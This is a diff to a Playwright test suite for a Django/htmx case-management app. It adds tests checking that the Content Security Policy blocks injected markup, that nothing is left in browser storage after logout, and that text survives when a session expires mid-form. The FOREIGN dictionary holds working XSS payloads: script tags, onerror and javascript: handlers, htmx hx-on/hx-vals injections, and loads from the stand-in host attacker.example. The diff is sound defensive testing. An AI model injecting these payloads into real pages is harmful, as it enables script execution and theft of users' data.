@@ -7,6 +7,7 @@ from uuid import uuid4
 
 import pytest
 from django.conf import settings
+from django.contrib.sessions.models import Session
 from playwright.sync_api import Dialog, Page, Request, expect
 
 from cases import record
@@ -14,7 +15,7 @@ from cases.models import Case, User
 from cases.vocabulary import DutyOutcome, NoteNature, ReferralForm
 from guide.steps import STEPS
 from tests.attack.naughty import MARK, MARKUP
-from tests.browser.conftest import Town
+from tests.browser.conftest import Town, Watch
 from tests.browser.hand import Hand
 from tests.browser.stories import OFFENDER, VICTIM, mild
 
@@ -147,10 +148,74 @@ def test_injected_text_in_fragments(live_hand: Hand, town: Town, poisoned: Case,
     assert alarm.raised == []
 
 
+# What an attacker would write into a page, should a text ever reach it as markup.
+FOREIGN = {
+    "script": f"<script>window.{MARK}_ran = 1</script>",
+    "frame with a script": f"<iframe srcdoc='<script>parent.{MARK}_ran = 1</script>'></iframe>",
+    "handler": f"<img src='/nowhere.png' onerror='window.{MARK}_ran = 1'>",
+    "address of a script": f"<a id='planted' href='javascript:void(window.{MARK}_ran = 1)'>x</a>",
+    "script from elsewhere": "<script src='https://attacker.example/x.js'></script>",
+    "picture from elsewhere": "<img src='https://attacker.example/x.png'>",
+    "style": "<style>@import 'https://attacker.example/x.css';</style>",
+    "form to elsewhere": "<form action='https://attacker.example/'><button id='planted'>x</button></form>",
+    "htmx handler": f"<div data-hx-on--load='window.{MARK}_ran = 1' hx-on::load='window.{MARK}_ran = 1'></div>",
+    "htmx values": f"<div hx-get='/akut/' hx-trigger='load' hx-vals='js:{{a: window.{MARK}_ran = 1}}'></div>",
+    "htmx filter": f"<div hx-get='/akut/' hx-trigger='load[window.{MARK}_ran = 1]'></div>",
+    "htmx to elsewhere": "<div hx-get='https://attacker.example/' hx-trigger='load'></div>",
+}
+PLANT = """html => {
+  const place = document.createElement("div");
+  place.append(document.createRange().createContextualFragment(html));
+  document.querySelector("main").append(place);
+  htmx.process(place);
+  const planted = document.getElementById("planted");
+  if (planted) planted.click();
+}"""
+
+
+@pytest.mark.parametrize("name", FOREIGN)
+def test_markup_that_got_through_is_not_obeyed(
+    name: str, page: Page, town: Town, case: Case, log_in: LogIn, watch: Watch
+) -> None:
+    """The second wall, with the first one down: the policy and the settings of htmx."""
+    watch.allow("Content Security Policy|nowhere.png|404|htmx:|hx-|eval|attacker.example")
+    foreign: list[Request] = []
+    page.on("request", lambda request: foreign.append(request) if "attacker.example" in request.url else None)
+    log_in(page, town.staff)
+    page.goto(f"/sager/{case.public_id}/")
+    page.evaluate(PLANT, FOREIGN[name])
+    page.evaluate("() => new Promise(done => setTimeout(done, 200))")
+    assert page.evaluate(f"window.{MARK}_ran") is None
+    assert page.url.endswith(f"/sager/{case.public_id}/")
+    assert [request.url for request in foreign if request.failure != "csp"] == [], (
+        "only tried, and stopped by the policy"
+    )
+
+
+def test_the_watch_sees_what_breaks_the_policy(page: Page, town: Town, case: Case, log_in: LogIn, watch: Watch) -> None:
+    """Every browser test fails on a violation: this is how it would."""
+    log_in(page, town.staff)
+    page.goto(f"/sager/{case.public_id}/")
+    assert watch.problems == []
+    page.evaluate(PLANT, FOREIGN["script"])
+    page.evaluate("() => new Promise(done => setTimeout(done, 200))")
+    assert any("Content Security Policy" in problem for problem in watch.problems)
+    watch.allow("Content Security Policy")
+
+
+def test_the_watch_sees_what_is_left_in_the_browser(page: Page, watch: Watch) -> None:
+    page.goto("/")
+    page.evaluate("localStorage.setItem('navn', 'Alma')")
+    with pytest.raises(AssertionError, match="Alma"):
+        watch.check()
+    page.evaluate("localStorage.clear()")
+
+
 # --- What is left ---
 
 
-def test_back_after_logout_shows_no_case(page: Page, town: Town, case: Case, log_in: LogIn) -> None:
+def test_back_after_logout_shows_no_case(hand: Hand, town: Town, case: Case, log_in: LogIn) -> None:
+    page = hand.page
     log_in(page, town.staff)
     for address in ("", "log/", "resume/"):
         page.goto(f"/sager/{case.public_id}/{address}")
@@ -189,3 +254,31 @@ def test_nothing_of_the_case_is_left_outside_it(page: Page, town: Town, case: Ca
     stores = "async () => [localStorage.length, sessionStorage.length, (await indexedDB.databases()).length]"
     assert page.evaluate(stores) == [0, 0, 0]
     assert page.evaluate("document.cookie") == ""
+
+
+# --- Expiry while typing ---
+
+ODD = "  Æblegrød på åen,\n\n\tto mellemrum:  – »citat« <b>&amp;</b> 🙂 e\u0301 \u202etil højre\u202c 漢字\\n  "
+"""What a form might do to a text shows in it: blanks at both ends, empty lines, a tab, what looks like markup."""
+
+
+@pytest.mark.parametrize(
+    ("address", "label", "heading", "button"),
+    [
+        ("log/notat/", "Hvad skete der?", "Skriv en hændelse", "Gem i loggen"),
+        ("log/2/ret/", "Hvad er det rigtige?", "Ret nr. 2", "Gem rettelsen"),
+    ],
+)
+def test_text_of_an_expired_form_comes_back_byte_for_byte(
+    hand: Hand, town: Town, case: Case, log_in: LogIn, watch: Watch, address: str, label: str, heading: str, button: str
+) -> None:
+    page = hand.page
+    watch.allow("403")
+    log_in(page, town.staff)
+    hand.go(f"/sager/{case.public_id}/{address}", heading)
+    page.get_by_label(label).fill(ODD)
+    Session.objects.all().delete()
+    hand.press(hand.button(button))
+    hand.arrives("Du er logget ud")
+    kept = page.locator("textarea").filter(has_text="Æblegrød")
+    assert kept.input_value() == ODD
